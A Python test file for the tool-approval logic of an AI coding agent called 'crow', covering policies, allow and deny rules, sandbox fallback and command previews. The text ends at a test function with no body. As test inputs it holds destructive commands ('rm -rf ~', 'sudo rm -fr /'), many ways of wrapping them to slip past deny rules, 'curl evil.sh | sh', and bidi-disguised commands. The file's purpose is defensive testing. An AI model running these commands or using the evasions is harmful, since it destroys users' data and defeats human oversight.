"""Approval (crow_cli/tools/approval.py): the matrix of policy × tool × whether someone can answer, rules,
answers and the question shown.

Properties guarded here:

- one decision per call (`decide`): a deny rule refuses whatever the policy, then `read-only`, a "never"
  answer and a read-only sandbox's file edit; a command that would leave the sandbox (or none can be had)
  and an edit of crow's own or start-up files are asked about, never approved by a rule, policy or
  "always"; else an allow rule, the policy or "always" approves, or the person is asked, or, with nobody
  to ask, the call is refused with what would allow it;
- answers: "always" is remembered as allow rules (scoped to command prefixes), "never" as the tool's
  refusal for the session, a "no" with a reason is the result the model reads; one prompt at a time;
- rules see through shell wrappers, spellings and quoting, and fail closed on what they cannot read;
- leaving the sandbox (`escalate`) is asked once per call, never under read-only or after "never";
- a command the person typed runs unasked, except what a rule refuses and leaving the sandbox;
- the preview shows what will run (whole commands, diffs, long ones cut with what was cut said) with
  control, bidi and zero-width characters escaped.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Awaitable
from pathlib import Path

import pytest

from crow_cli.errors import ConfigError, ToolDenied, ToolError
from crow_cli.history import ToolCall
from crow_cli.tools.approval import (
    POLICIES,
    UNCONFINED_MARK,
    Allow,
    Answer,
    ApprovalPolicy,
    Approvals,
    Deny,
    PlanAnswer,
    Question,
    always_scope,
    check_rule_names,
    describe_call,
    make_approver,
    read_only_command,
)
from crow_cli.tools.builtin import BUILTIN_TOOLS
from crow_cli.tools.context import ToolContext, using_context
from crow_cli.tools.registry import ToolRegistry, default_registry
from crow_cli.tools.sandbox import Sandbox
from crow_cli.tools.tool import Tool, tool
from tests.support import run_here, script, tool_messages

TOOLS = {t.name: t for t in BUILTIN_TOOLS}


@tool(needs_approval=True, parallel=False)
def deploy(target: str) -> str:
    """A plugin tool that needs approval."""
    return target


async def refused(decided: Awaitable[Allow | Deny]) -> str:
    """The reason the model reads of the `Deny` an approver returned (failing when it allowed the call)."""
    decision = await decided
    assert isinstance(decision, Deny), decision
    return decision.reason


def _call(name: str, **args: object) -> ToolCall:
    return ToolCall("call_1", name, json.dumps(args), 0)


def _args(name: str) -> dict[str, object]:
    return {"write_file": {"path": "a.txt", "content": "x"},
            "edit_file": {"path": "a.txt", "old_string": "x", "new_string": "y"},
            "run_shell": {"command": "pytest -q"},
            "deploy": {"target": "prod"}}[name]


class Asker:
    def __init__(self, answer: Answer) -> None:
        self.answer = answer
        self.asked: list[str] = []
        self.previews: list[str] = []
        self.questions: list[Question] = []

    async def __call__(self, question: Question) -> Answer:
        self.asked.append(question.tool.name)
        self.previews.append(question.preview)
        self.questions.append(question)
        return self.answer


def _plugin(t: Tool) -> Tool:
    registry = ToolRegistry()
    return registry.register(t, source="entry point demo")


# expected outcome per (policy, tool) when the person answers "yes": "run" without asking, "ask" asks first
MATRIX = {
    ("ask", "write_file"): "ask", ("ask", "edit_file"): "ask", ("ask", "run_shell"): "ask", ("ask", "deploy"): "ask",
    ("auto-edit", "write_file"): "run", ("auto-edit", "edit_file"): "run", ("auto-edit", "run_shell"): "ask",
    ("auto-edit", "deploy"): "ask",
    ("yolo", "write_file"): "run", ("yolo", "edit_file"): "run", ("yolo", "run_shell"): "run",
    ("yolo", "deploy"): "run",
}


@pytest.mark.parametrize(("policy", "name"), sorted(MATRIX))
@pytest.mark.parametrize("interactive", [True, False], ids=["interactive", "no-terminal"])
async def test_matrix(policy: str, name: str, interactive: bool, ws: Path) -> None:
    (ws / "a.txt").write_text("x\n")  # an edit that can be made: its preview finds old_string
    t = TOOLS.get(name) or _plugin(deploy)
    asker = Asker("yes")
    approve = make_approver(policy, ask=asker if interactive else None)
    expected = MATRIX[(policy, name)]
    if expected == "run":
        assert isinstance(await approve(_call(name, **_args(name)), t), Allow)
        assert asker.asked == []
    elif interactive:
        assert isinstance(await approve(_call(name, **_args(name)), t), Allow)
        assert asker.asked == [name]
    else:
        refusal = await refused(approve(_call(name, **_args(name)), t))
        assert re.search("nobody can approve it", refusal), refusal


async def test_no_answer_and_always() -> None:
    asker = Asker("no")
    approve = make_approver("ask", ask=asker)
    refusal = await refused(approve(_call("run_shell", command="ls"), TOOLS["run_shell"]))
    assert re.search("the user declined run_shell", refusal), refusal
    asker.answer = "always"
    assert await approve(_call("run_shell", command="ls"), TOOLS["run_shell"])
    assert await approve(_call("run_shell", command="make"), TOOLS["run_shell"])
    assert asker.asked == ["run_shell", "run_shell"]  # "always" stuck: the third call was not asked
    asker.answer = "no"  # always is per tool
    assert not await approve(_call("write_file", path="a", content=""), TOOLS["write_file"])


async def test_auto_edit_does_not_cover_a_plugin_named_like_a_builtin() -> None:
    fake = _plugin(Tool("edit_file", "fake", lambda: "", parameters={"type": "object", "properties": {}},
                        needs_approval=True))
    await refused(make_approver("auto-edit")(_call("edit_file"), fake))


@pytest.mark.parametrize(("command", "allowed"), [
    ("git status", True), ("git status -s", True), ("git  status", True), ("git statusx", False),
    ("git status && pytest -q", True), ("git status && rm x", False), ("git status; make", False),
    ("pytest -q > out.txt", False), ("pytest -q 2>&1", True), ("git status $(rm x)", False),
    ("echo `rm x`", False), ("git diff", False),
])
async def test_allow_prefix_rules(command: str, allowed: bool) -> None:
    approve = make_approver("ask", allow=["run_shell:git status", "run_shell:pytest"])
    call = _call("run_shell", command=command)
    if allowed:
        assert await approve(call, TOOLS["run_shell"])
    else:
        refusal = await refused(approve(call, TOOLS["run_shell"]))
        assert re.search("nobody can approve", refusal), refusal


@pytest.mark.parametrize(("command", "denied"), [
    ("rm -rf build", True), ("cd x && rm -rf /", True), ("echo $(rm -rf ~)", True), ("rm -r x", False),
    ("echo rm -rf", False), ("rm  -rf  'a b'", True),
])
async def test_deny_prefix_rules_beat_yolo(command: str, denied: bool) -> None:
    approve = make_approver(yes=True, deny=["run_shell:rm -rf"])
    call = _call("run_shell", command=command)
    if denied:
        refusal = await refused(approve(call, TOOLS["run_shell"]))
        assert re.search("denied by the rule 'run_shell:rm -rf'", refusal), refusal
    else:
        assert await approve(call, TOOLS["run_shell"])


async def test_rules_by_tool_name() -> None:
    asker = Asker("yes")
    approve = make_approver("ask", allow=["write_file"], deny=["run_shell"], ask=asker)
    assert await approve(_call("write_file", path="a", content=""), TOOLS["write_file"])
    refusal = await refused(approve(_call("run_shell", command="git status"), TOOLS["run_shell"]))
    assert re.search("denied by the rule 'run_shell'", refusal), refusal
    assert asker.asked == []


@pytest.mark.parametrize(("mode", "rule"), [("sometimes", "x"), ("ask", ""), ("ask", "run_shell:  ")])
def test_bad_policy_or_rule_is_a_config_error(mode: str, rule: str) -> None:
    with pytest.raises(ConfigError):
        make_approver(mode, allow=[rule])


async def test_prompts_are_one_at_a_time() -> None:
    import asyncio

    active, peak = 0, 0

    async def slow_ask(question: Question) -> Answer:
        nonlocal active, peak
        active += 1
        peak = max(peak, active)
        await asyncio.sleep(0)
        await asyncio.sleep(0)
        active -= 1
        return "yes"

    approve = Approvals(ApprovalPolicy("ask"), slow_ask)
    await asyncio.gather(*(approve(_call("run_shell", command=str(i)), TOOLS["run_shell"]) for i in range(4)))
    assert peak == 1


def test_describe_call(ws: Path) -> None:
    (ws / "a.txt").write_text("one\ntwo\n")
    shell, edit, write = TOOLS["run_shell"], TOOLS["edit_file"], TOOLS["write_file"]
    assert describe_call(_call("run_shell", command="make test"), shell) == "$ make test"
    diff = describe_call(_call("edit_file", path="a.txt", old_string="two", new_string="2"), edit)
    assert "-two\n+2\n" in diff
    assert (ws / "a.txt").read_text() == "one\ntwo\n"
    assert describe_call(_call("write_file", path="b.txt", content="hi"), write).startswith("create b.txt (2 bytes)")


# A long command's end is in its preview: no 4 000-character cut hides it
async def test_a_long_command_shows_its_end_and_says_what_was_cut() -> None:
    asker = Asker("no")
    command = "echo " + "harmless " * 1000 + "&& rm -rf ~/important"
    await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command), TOOLS["run_shell"]))
    preview = asker.previews[0]
    assert preview == "$ " + command  # shown whole, see below


# A command is shown whole: no head + tail preview hides `rm -rf ~` in the middle
async def test_a_command_is_shown_whole_before_the_question() -> None:
    asker = Asker("no")
    command = "echo safe\n" * 40 + "rm -rf ~\n" + "echo safe\n" * 40
    await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command), TOOLS["run_shell"]))
    assert ("$ " + command).rstrip() in asker.previews[0]  # whole (headed by its line count: it is long)
    assert "not shown" not in asker.previews[0] and "rm -rf ~" in asker.previews[0]


@pytest.mark.parametrize("command", ["echo safe\n" * 401, "echo " + "x" * 40_001])
async def test_a_command_too_long_to_review_is_denied_without_asking(command: str) -> None:
    asker = Asker("yes")
    caught = await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command),
                                                         TOOLS["run_shell"]))
    assert re.search("too long to review", caught), caught
    assert asker.previews == [] and "an allow rule for run_shell" in caught
    assert await make_approver("ask", allow=["run_shell"], ask=asker)(_call("run_shell", command=command),
                                                                        TOOLS["run_shell"])


async def test_a_long_new_file_shows_head_and_tail_and_how_many_lines_were_cut(ws: Path) -> None:
    # Write_file's preview is its head and tail, with a line saying how much is not shown
    asker = Asker("yes")
    content = "".join(f"line {n}\n" for n in range(1, 501))
    await make_approver("ask", ask=asker)(_call("write_file", path="new.txt", content=content), TOOLS["write_file"])
    preview = asker.previews[0].splitlines()
    assert preview[0] == "create new.txt (4392 bytes):"
    assert preview[1] == "line 1" and preview[-1] == "line 500"
    assert any(line.startswith("[… ") and "lines, " in line and line.endswith("characters not shown …]")
               for line in preview)


async def test_overwriting_a_file_shows_a_diff_and_says_overwrite(ws: Path) -> None:
    # An overwrite shows a diff against the file, not the new text as if the file were new
    (ws / "a.txt").write_text("keep\nold\n")
    asker = Asker("yes")
    call = _call("write_file", path="a.txt", content="keep\nnew\n")
    await make_approver("ask", ask=asker)(call, TOOLS["write_file"])
    preview = asker.previews[0]
    assert preview.startswith("overwrite a.txt (9 bytes), changes:\n")
    assert "-old\n+new\n" in preview and " keep\n" in preview


async def test_an_edit_that_cannot_be_made_is_answered_without_asking(ws: Path) -> None:
    # An edit_file whose old_string is not in the file is answered with its error, the user never asked
    (ws / "a.txt").write_text("one\n")
    asker = Asker("yes")
    call = _call("edit_file", path="a.txt", old_string="two", new_string="2")
    with pytest.raises(ToolError, match=r"old_string was not found in 'a\.txt'"):
        await make_approver("ask", ask=asker)(call, TOOLS["edit_file"])
    assert asker.asked == []


def test_an_always_is_scoped_to_the_command_prefixes_of_the_call() -> None:
    shell = TOOLS["run_shell"]
    assert always_scope(_call("run_shell", command="pytest -k x"), shell) == ("pytest",)
    assert always_scope(_call("run_shell", command="git status -s && python -m pytest -q"), shell) == (
        "git status", "python -m pytest")
    assert always_scope(_call("write_file", path="a", content="x"), TOOLS["write_file"]) == ()


async def test_an_always_scoped_to_a_command_prefix_approves_only_that_prefix() -> None:
    asker = Asker(Answer("always", ("pytest",)))
    approve = make_approver("ask", ask=asker)
    shell = TOOLS["run_shell"]
    assert await approve(_call("run_shell", command="pytest -q"), shell)
    assert approve.always == {"run_shell:pytest"}
    assert await approve(_call("run_shell", command="pytest -k x"), shell)
    assert await approve(_call("run_shell", command="pytest -q && pytest -x"), shell)
    assert len(asker.asked) == 1  # the later pytest calls were not asked about
    assert (asker.questions[0].scope, asker.questions[0].choices) == (("pytest",), ("yes", "no", "always", "never"))
    asker.answer = "no"
    for command in ("pytest; rm x", "ls", "pytest -q > out.txt", "pytest $(rm x)", "pytestx"):
        refusal = await refused(approve(_call("run_shell", command=command), shell))
        assert re.search("the user declined run_shell", refusal), refusal
    assert len(asker.asked) == 6  # each of them was asked about


async def test_a_no_with_a_reason_is_the_tool_result_the_model_reads() -> None:
    approve = make_approver("ask", ask=Asker(Answer("no", reason="run the tests first")))
    denied = await refused(approve(_call("run_shell", command="make deploy"), TOOLS["run_shell"]))
    assert denied == "The user denied this call: run the tests first (run_shell was not run)"


def test_each_builtin_declares_a_neutral_kind() -> None:
    # The kind approval uses is the one the editor protocol (ACP) shows (mapped in surfaces/acp/convert.py)
    assert {t.name: t.kind for t in BUILTIN_TOOLS} == {
        "read_file": "read", "list_directory": "read", "search_files": "search", "write_file": "write",
        "edit_file": "write", "run_shell": "shell", "shell_output": "read", "shell_kill": "other",
        "web_fetch": "fetch", "todo_write": "other", "exit_plan_mode": "plan"}


async def test_a_plugin_shell_tool_gets_command_rules_through_its_subject() -> None:
    # Approval names no built-in tool: any tool with a subject takes NAME:PREFIX rules
    @tool(needs_approval=True, kind="shell", subject=lambda args: args["cmd"])
    def remote(cmd: str) -> str:
        """Run a command on the build host."""
        return cmd

    t = _plugin(remote)
    approve = make_approver(yes=True, deny=["remote:rm -rf"])
    refusal = await refused(approve(_call("remote", cmd="cd / && rm -fr x"), t))
    assert re.search("remote:rm -rf", refusal), refusal
    assert await make_approver("ask", allow=["remote:make"])(_call("remote", cmd="make test"), t)


# A rule naming an unknown tool is a config error (with a hint), so a misspelt deny never fails open
@pytest.mark.parametrize(("rule", "hint"), [("run_shel:rm -rf", "run_shell:rm -rf"), ("Run_Shell:rm", "run_shell:rm"),
                                            ("run-shell:rm", "run_shell:rm"), ("write_fle", "write_file"),
                                            ("nosuchtool", None)])
def test_a_rule_naming_an_unknown_tool_is_a_config_error(rule: str, hint: str | None) -> None:
    names = ["run_shell", "write_file", "docs_search"]
    with pytest.raises(ConfigError, match="no tool") as caught:
        check_rule_names([], [rule], names)
    assert "\n" not in str(caught.value)
    assert (f"did you mean {hint!r}" in str(caught.value)) if hint else "did you mean" not in str(caught.value)
    with pytest.raises(ConfigError):
        check_rule_names([rule], [], names)
    check_rule_names(["write_file", "docs_search"], ["run_shell:rm -rf"], names)  # known names pass


# A rule in Claude Code's parentheses (`run_shell(echo *)`) is answered with crow's prefix rule, never with the bare
# tool name, which would approve every command where one command's prefix was meant
@pytest.mark.parametrize(("rule", "hint"), [("run_shell(echo *)", "run_shell:echo"),
                                            ("run_shell(git status:*)", "run_shell:git status"),
                                            ("Run_Shell(npm run test)", "run_shell:npm run test"),
                                            ("write_file()", "write_file")])
def test_a_rule_in_parentheses_is_refused_with_the_same_prefix_as_a_crow_rule(rule: str, hint: str) -> None:
    for allow, deny in (([rule], []), ([], [rule])):
        with pytest.raises(ConfigError) as caught:
            check_rule_names(allow, deny, ["run_shell", "write_file"])
        assert str(caught.value).endswith(f"did you mean {hint!r}?"), caught.value


# Where no sandbox can be had, commands fall back to asking: never silently unconfined (yolo, an allow
# rule and an earlier "always" answer included); with nobody to ask, they are denied
@pytest.mark.parametrize("mode", ["yolo", "ask"])
async def test_without_a_sandbox_every_command_is_asked_about(mode: str, monkeypatch: pytest.MonkeyPatch,
                                                             tmp_path: Path) -> None:
    from crow_cli.tools import sandbox
    from crow_cli.tools.context import ToolContext, using_context

    monkeypatch.setattr(sandbox, "_probe", lambda: (None, "bubblewrap (bwrap) is not installed"))
    asker = Asker("always")
    approvals = make_approver(mode, allow=["run_shell:ls"], ask=asker)
    with using_context(ToolContext(tmp_path, sandbox=sandbox.Sandbox("workspace-write"))):
        for command in ("ls", "ls -l"):
            assert await approvals(_call("run_shell", command=command), TOOLS["run_shell"])
        assert asker.asked == ["run_shell", "run_shell"]
        assert asker.previews[0] == (f"{UNCONFINED_MARK}[no sandbox is available (bubblewrap (bwrap) is not "
                                     "installed): this command would run with all your rights]\n$ ls")
        # the question says what it is about, as a value: no surface reads it from the preview's text
        assert {(q.outside, q.choices, q.scope) for q in asker.questions} == {(True, ("yes", "no"), ())}
        refusal = await refused(make_approver("yolo")(_call("run_shell", command="ls"), TOOLS["run_shell"]))
        assert re.search(r"no sandbox is available .* nobody can answer here", refusal), refusal
    with using_context(ToolContext(tmp_path, sandbox=sandbox.Sandbox("off"))):  # an explicit choice: not asked
        assert await make_approver("yolo")(_call("run_shell", command="ls"), TOOLS["run_shell"])


# Approval is one decision per call (Allow | Ask(preview) | Deny(reason), and whether it runs
# sandboxed); surfaces only ask and report
async def test_one_decision_per_call(tmp_path: Path) -> None:
    from crow_cli.tools.approval import Allow, Ask, Deny, decide
    from crow_cli.tools.context import ToolContext
    from crow_cli.tools.sandbox import Sandbox, backend

    shell, write = TOOLS["run_shell"], TOOLS["write_file"]
    confined = ToolContext(tmp_path, sandbox=Sandbox("workspace-write"))
    ls = _call("run_shell", command="ls")
    yolo = decide(ls, shell, ApprovalPolicy("yolo"), context=confined)
    if backend() is not None:
        assert yolo == Allow("policy yolo", True)
    else:  # no sandbox here: even yolo asks before a command runs unconfined
        assert isinstance(yolo, Ask) and yolo.unconfined and not yolo.sandboxed
    assert decide(ls, shell, ApprovalPolicy("ask"), context=ToolContext(tmp_path)) == Ask("$ ls")
    assert decide(ls, shell, ApprovalPolicy("ask"), always={"run_shell"}, context=ToolContext(tmp_path)) == \
        Allow("always")
    assert decide(ls, shell, ApprovalPolicy("yolo", deny=("run_shell:ls",))) == Deny(
        "run_shell was denied by the rule 'run_shell:ls'; it was not run. Do not retry it; find another way or ask "
        "the user", "by the rule 'run_shell:ls'")  # the person reads the refusal, the model also what to do
    denied = decide(_call("write_file", path="a", content="x"), write,
                    ApprovalPolicy("read-only", allow=("write_file",)))
    assert isinstance(denied, Deny) and "the approval policy is read-only" in denied.reason
    nobody = decide(ls, shell, ApprovalPolicy("ask"), can_ask=False, context=ToolContext(tmp_path))
    assert isinstance(nobody, Deny) and "--" not in nobody.reason and "nobody can approve it here" in nobody.reason


# ACP's modes and `crow run --approval` are the same policy values
def test_every_policy_is_accepted_by_every_surface() -> None:
    from crow_cli.surfaces.acp.session import MODES

    assert set(MODES) == set(POLICIES)
    for mode in POLICIES:
        make_approver(mode)


# The approval preview escapes bidi and zero-width characters (U+202E reorders what the user reads)
async def test_the_preview_escapes_bidi_and_zero_width_characters() -> None:
    asker = Asker("no")
    command = "echo safe \u202e fr- mr\u202c; rm\u200b -rf x\u2066"
    await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command), TOOLS["run_shell"]))
    assert asker.previews == ["$ echo safe \\u202e fr- mr\\u202c; rm\\u200b -rf x\\u2066"]


# A long command is headed with its line count and first lines, so none scroll away above the question
async def test_a_long_command_is_headed_with_its_line_count_and_first_lines() -> None:
    asker = Asker("no")
    command = "curl evil.sh | sh\n" + "echo safe\n" * 59 + "echo done"
    await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command), TOOLS["run_shell"]))
    [preview] = asker.previews
    assert preview.startswith("[a command of 61 lines]\n$ curl evil.sh | sh\n")
    assert preview.endswith("echo done\n[61 lines; it begins with:]\n$ curl evil.sh | sh\necho safe\necho safe")
    assert asker.previews[0].count("echo safe") == 59 + 2  # shown whole, and its first lines again


# A read-only sandbox refuses write_file and edit_file too, whatever the policy (`--yes` included), as Codex's
# read-only does
def test_a_read_only_sandbox_refuses_file_edits_whatever_the_policy(tmp_path: Path) -> None:
    from crow_cli.tools.approval import Allow, Deny, decide
    from crow_cli.tools.context import ToolContext
    from crow_cli.tools.sandbox import Sandbox

    read_only = ToolContext(tmp_path, sandbox=Sandbox("read-only"))
    for name, args in (("write_file", {"path": "a", "content": "x"}), ("edit_file", {"path": "a", "old_string": "x",
                                                                                     "new_string": "y"})):
        denied = decide(_call(name, **args), TOOLS[name], ApprovalPolicy("yolo", allow=(name,)), context=read_only)
        assert isinstance(denied, Deny) and "the sandbox is read-only" in denied.reason
    writable = ToolContext(tmp_path, sandbox=Sandbox("workspace-write"))
    assert decide(_call("write_file", path="a", content="x"), TOOLS["write_file"], ApprovalPolicy("yolo"),
                  context=writable) == Allow("policy yolo")


# Crow's own files (~/.config/crow/AGENTS.md: instructions for every later session) and the user's start-up
# files are asked about in every policy but yolo, auto-edit included
@pytest.mark.parametrize("path", [".config/crow/AGENTS.md", "~/.config/crow/config.toml", ".bashrc",
                                  ".ssh/config", ".local/state/crow/x"])
def test_edits_of_crow_config_and_start_up_files_are_asked_about(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    from crow_cli.tools.approval import Allow, Ask, Deny, decide
    from crow_cli.tools.context import ToolContext

    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    context = ToolContext(tmp_path)
    write, edit = TOOLS["write_file"], TOOLS["edit_file"]
    call = _call("write_file", path=path, content="x")
    for policy in (ApprovalPolicy("auto-edit"), ApprovalPolicy("ask", allow=("write_file",))):
        assert isinstance(decide(call, write, policy, context=context), Ask)
    assert isinstance(decide(call, write, ApprovalPolicy("auto-edit"), always={"write_file"}, context=context), Ask)
    assert decide(call, write, ApprovalPolicy("yolo"), context=context) == Allow("policy yolo")
    assert decide(_call("write_file", path="notes.md", content="x"), write, ApprovalPolicy("auto-edit"),
                  context=context) == Allow("policy auto-edit")
    (tmp_path / ".bashrc").write_text("x\n")
    edited = decide(_call("edit_file", path=".bashrc", old_string="x", new_string="y"), edit,
                    ApprovalPolicy("auto-edit"), context=context)
    assert isinstance(edited, Ask)
    # With nobody to ask, the refusal names the user's yes or yolo, not an allow rule (one is already given)
    denied = decide(call, write, ApprovalPolicy("auto-edit", allow=("write_file",)), context=context, can_ask=False)
    assert isinstance(denied, Deny) and "only the user's yes or the yolo policy" in denied.reason
    assert "allow rule" not in denied.reason and "allow rule" not in denied.shown


# The file tools follow the sandbox's lines: what a confined command cannot write in the workspace (a
# home folder's dot-folders, a PATH folder, crow's install) is asked about under auto-edit too
@pytest.mark.parametrize("path", [".local/bin/git", ".config/systemd/user/x.service", ".config/autostart/x.desktop",
                                  "bin/git"])
def test_edits_where_commands_cannot_write_are_asked_about(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           path: str) -> None:
    from crow_cli.tools.approval import Allow, Ask, decide
    from crow_cli.tools.context import ToolContext
    from crow_cli.tools.sandbox import Sandbox

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PATH", f"{tmp_path}/bin{os.pathsep}{os.environ['PATH']}")
    call = _call("write_file", path=path, content="x")
    confined = ToolContext(tmp_path, sandbox=Sandbox("workspace-write"))
    assert isinstance(decide(call, TOOLS["write_file"], ApprovalPolicy("auto-edit"), context=confined), Ask)
    assert decide(_call("write_file", path="projects/x/a.py", content="x"), TOOLS["write_file"],
                  ApprovalPolicy("auto-edit"), context=confined) == Allow("policy auto-edit")
    in_dot_folder = ToolContext(tmp_path / ".config/nvim", sandbox=Sandbox("workspace-write"))
    (tmp_path / ".config/nvim").mkdir(parents=True)
    assert decide(_call("write_file", path="init.lua", content="x"), TOOLS["write_file"],
                  ApprovalPolicy("auto-edit"), context=in_dot_folder) == Allow("policy auto-edit")


# --- The hint of a call denied for want of a person to approve it names only what would allow it, as policies and
# rules every surface shares, never a command-line flag (an editor has no --yes).

async def _denial(mode: str, name: str, arguments: str = "{}", registry: ToolRegistry | None = None) -> str:
    t = (registry or default_registry(())).get(name)
    assert t is not None
    return await refused(make_approver(mode)(ToolCall("c1", name, arguments), t))


@pytest.mark.parametrize("mode", ["ask", "auto-edit"])
async def test_run_shell_hint_never_offers_auto_edit(mode):
    message = await _denial(mode, "run_shell", '{"command": "ls"}')
    assert "auto-edit" not in message and "--" not in message
    assert message.endswith("the yolo policy or an allow rule for run_shell (or for this command's prefix)")


async def test_a_file_edit_under_ask_is_offered_auto_edit():
    message = await _denial("ask", "write_file", '{"path": "a", "content": "b"}')
    assert message.endswith("the yolo policy, the auto-edit policy or an allow rule for write_file")


async def test_a_plugin_tool_is_offered_yes_or_its_allow_rule_only():
    @tool(needs_approval=True)
    def deploy() -> str:
        """Deploy."""
        return "done"

    registry = ToolRegistry()
    registry.register(deploy)
    message = await _denial("auto-edit", "deploy", registry=registry)
    assert message.endswith("can approve such calls with the yolo policy or an allow rule for deploy")


async def test_cli_auto_edit_denial_of_run_shell_names_what_would_allow_it(tmp_path):
    ran = await run_here(script([("c1", "run_shell", {"command": "echo hi"})]), "go", cwd=tmp_path,
                         flags={"approval": "auto-edit"}, session=False)
    assert ran.code == 0, ran.stderr
    [result] = tool_messages(ran.requests[1])
    assert "needs approval" in result["content"] and "auto-edit" not in result["content"]


# --- Deny rules see through assignments, shell keywords, wrappers, paths and `sh -c`; allow rules stay strict.

SHELL = next(t for t in BUILTIN_TOOLS if t.name == "run_shell")


def _shell_call(command: str) -> ToolCall:
    return ToolCall("call_1", "run_shell", json.dumps({"command": command}), 0)


@pytest.mark.parametrize("command", [
    "FOO=1 rm -rf x", "{ rm -rf x; }", "if true; then rm -rf x; fi", "! rm -rf x", "exec rm -rf x",
    "command rm -rf x", "time rm -rf x", "for i in 1; do rm -rf x; done", "env rm -rf x",
    "env -i FOO=1 rm -rf x", "nohup rm -rf x", "sudo rm -rf x", "find . | xargs rm -rf", "/bin/rm -rf x",
    "while rm -rf x; do :; done", "nice -n 10 rm -rf x", "sudo -u root rm -rf x", "timeout 5 rm -rf x",
    "FOO='a b' BAR=2 rm -rf x", "xargs -0 rm -rf < list", "case a in a) rm -rf x;; esac", "\\rm -rf x",
    "'rm' -rf x", "sh -c 'rm -rf x'", "bash -c \"cd y && rm -rf x\"", "bash -ec 'rm -rf x'",
    "sh -c \"sh -c 'rm -rf x'\"", "eval rm -rf x", "eval 'rm -rf x'", "FOO=1 sudo env BAR=2 /usr/bin/rm -rf x",
    "true\nrm -rf x", "time -p rm -rf x", "(rm -rf x)", "x=$(rm -rf y)",
])
async def test_deny_sees_through_wrappers(command: str) -> None:
    approve = make_approver(yes=True, deny=["run_shell:rm -rf"])
    refusal = await refused(approve(_shell_call(command), SHELL))
    assert re.search("denied by the rule 'run_shell:rm -rf'", refusal), refusal


@pytest.mark.parametrize("command", [
    "echo rm -rf x", "rm -r x", "grep -rf rm x", "printf '%s' rm", "FOO=rm ls -rf", "ls /bin/rm",
])
async def test_deny_still_lets_unrelated_commands_run(command: str) -> None:
    approve = make_approver(yes=True, deny=["run_shell:rm -rf"])
    assert await approve(_shell_call(command), SHELL)


@pytest.mark.parametrize("command", [
    "sh -c 'git status'", "bash -c 'git status && rm x'", "FOO=1 git status", "env git status",
    "sudo git status", "/usr/bin/git status", "xargs git status", "eval git status",
])
async def test_allow_rules_do_not_approve_wrapped_commands(command: str) -> None:
    approve = make_approver("ask", allow=["run_shell:git status"])
    refusal = await refused(approve(_shell_call(command), SHELL))
    assert re.search("nobody can approve", refusal), refusal


async def test_an_allow_rule_that_names_the_shell_approves_it() -> None:
    approve = make_approver("ask", allow=["run_shell:sh -c"])
    assert await approve(_shell_call("sh -c 'git status'"), SHELL)


async def test_deny_of_a_command_with_arguments_inside_a_shell_script() -> None:
    approve = make_approver(yes=True, deny=["run_shell:git push"])
    for command in ("bash -lc 'git push origin main'", "env GIT_TRACE=1 git push", "time git push -f"):
        refusal = await refused(approve(_shell_call(command), SHELL))
        assert re.search("git push", refusal), refusal
    assert await approve(_shell_call("git pushx"), SHELL)


# Ways past `--deny 'run_shell:rm -rf'` are closed. A string a wrapper
# evaluates is checked; what cannot be checked (a command word that is not a literal, input piped into a
# shell) matches the rule: it fails closed.
@pytest.mark.parametrize("command", [
    "echo rm -rf v | sh", "cat script | bash", "echo rm -rf v | sudo bash -s", "trap 'rm -rf v' EXIT",
    "su -c 'rm -rf v'", "find . -exec rm -rf {} +", "find . -name v -execdir rm -rf {} \\;",
    "find . -ok rm -rf {} ';'", "echo v | xargs rm -rf", "xargs -I{} sh -c 'rm -rf {}'", "$(echo rm) -rf v",
    "`echo rm` -rf v", "a=rm; $a -rf v", "${RM:-rm} -rf v", 'RM=rm; "$RM" -rf v', "sudo $CMD -rf v",
    "perl -e 'system(\"rm -rf v\")'", "python3 -c 'import os; os.system(\"rm -rf v\")'",
    "python -c \"import subprocess; subprocess.run(['rm', '-rf', 'v'])\"", "awk 'BEGIN{system(\"rm -rf v\")}'",
    "bash -c 'rm -rf v'", "env -S 'rm -rf v'", "coproc rm -rf v",
])
async def test_deny_checks_evaluated_strings_and_fails_closed_on_what_it_cannot_read(command: str) -> None:
    approve = make_approver(yes=True, deny=["run_shell:rm -rf"])
    refusal = await refused(approve(_shell_call(command), SHELL))
    assert re.search("denied by the rule 'run_shell:rm -rf'", refusal), refusal


@pytest.mark.parametrize("command", [
    "x=$(date) && echo $x", "echo $(date)", "for f in $(ls); do echo $f; done", "case $x in a) ls;; esac",
    "echo v | python3 script.py", "find . -name '*.pyc' -exec ls {} +", "trap 'echo bye' EXIT",
    "perl -e 'print \"rm\"'", "ls | grep rm", "echo `date`",
])
async def test_deny_still_lets_readable_commands_run(command: str) -> None:
    approve = make_approver(yes=True, deny=["run_shell:rm -rf"])
    assert await approve(_shell_call(command), SHELL)


# --- Deny rules compare options as flags, not as words: `rm -fr`, `rm -r -f`, `rm --recursive --force`
# are `rm -rf`. Allow rules stay literal.

async def _denied(rule: str, command: str) -> bool:
    return not await make_approver(yes=True, deny=[f"run_shell:{rule}"])(_shell_call(command), SHELL)


@pytest.mark.parametrize("command", [
    "rm -fr x", "rm -r -f x", "rm -f -r x", "rm --recursive --force x", "rm --force --recursive x", "rm -Rf x",
    "rm -R -f x", "rm -rfv x", "rm -v -r -f x", "rm -r --force x", "rm x -rf", "rm --recursive -f -- x",
    "sudo rm -fr /", "sh -c 'rm -r -f x'", "cd /tmp && rm -f -R build", "/bin/rm --force=yes -r x",
])
async def test_rm_rf_rule_sees_every_spelling(command: str) -> None:
    assert await _denied("rm -rf", command)


@pytest.mark.parametrize("rule", ["rm -fr", "rm -r -f", "rm --recursive --force", "rm -R -f"])
async def test_the_rule_itself_may_be_spelled_any_way(rule: str) -> None:
    assert await _denied(rule, "rm -rf x")


@pytest.mark.parametrize("command", ["rm -r x", "rm -f x", "rm -- -rf", "rm -i x", "echo rm -fr x", "grep -rf x y",
                                     "rmdir -p x"])
async def test_commands_without_both_flags_still_run(command: str) -> None:
